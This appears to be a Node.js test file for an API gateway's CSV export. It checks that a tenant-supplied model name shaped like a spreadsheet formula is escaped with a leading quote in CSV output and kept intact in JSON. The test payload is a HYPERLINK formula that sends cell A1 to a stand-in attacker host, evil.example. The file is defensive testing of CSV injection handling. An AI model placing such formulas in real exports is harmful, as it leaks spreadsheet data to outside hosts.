// A tenant names its model (or path) like a spreadsheet formula: every CSV tollgate writes
// (usage, query) shows the cell with a leading ' so a spreadsheet does not run it, while JSON
// keeps the exact value. OWASP's "CSV injection".
import assert from 'node:assert/strict';
import { after, before, describe, test } from 'node:test';

import { createTenantKey, request, startGateway, startMock, waitForEvent, waitForKey } from './lib/harness.mjs';

const EVIL = '=HYPERLINK("http://evil.example/?"&A1,"click")';

describe('CSV cells a spreadsheet would run', () => {
  let mock;
  let gw;
  before(async () => {
    mock = await startMock();
    gw = await startGateway({
      upstreams: [{ name: 'mock', targets: [mock.url] }],
      routes: [{ name: 'oa', path_prefix: '/v1/', upstream: 'mock', kind: 'openai' }],
    });
    const { secret } = await createTenantKey(gw, 'acme');
    await waitForKey(gw, secret, '/v1/models');
    const r = await request(`${gw.url}/v1/chat/completions`, {
      method: 'POST',
      headers: { authorization: `Bearer ${secret}`, 'content-type': 'application/json', 'x-request-id': 'csv-evil-1' },
      body: JSON.stringify({ model: EVIL, max_tokens: 2, messages: [{ role: 'user', content: 'hi' }] }),
    });
    assert.equal(r.status, 200, r.text);
    assert.equal((await waitForEvent(gw, 'csv-evil-1')).model, EVIL);
  });
  after(async () => {
    await gw?.stop();
    await mock?.stop();
  });

  test('usage --by model: the CSV cell starts with a quote; JSON keeps the value', async () => {
    const csv = await gw.cli(['usage', '--tenant', 'acme', '--by', 'model', '--format', 'csv']);
    assert.equal(csv.code, 0, csv.stderr);
    const line = csv.stdout.split('\n').find((l) => l.includes('HYPERLINK'));
    assert.ok(line.startsWith(`acme,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",`), line);
    const json = await gw.cli(['usage', '--tenant', 'acme', '--by', 'model', '--format', 'json']);
    assert.ok(JSON.parse(json.stdout).some((x) => x.model === EVIL));
  });

  test('query --format csv: the same guard; a negative number is left alone', async () => {
    const r = await gw.cli(['query', "SELECT model, -12.5 AS n FROM events WHERE request_id = 'csv-evil-1'", '--format', 'csv']);
    assert.equal(r.code, 0, r.stderr);
    assert.equal(r.stdout, `model,n\n"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",-12.5\n`);
  });
});
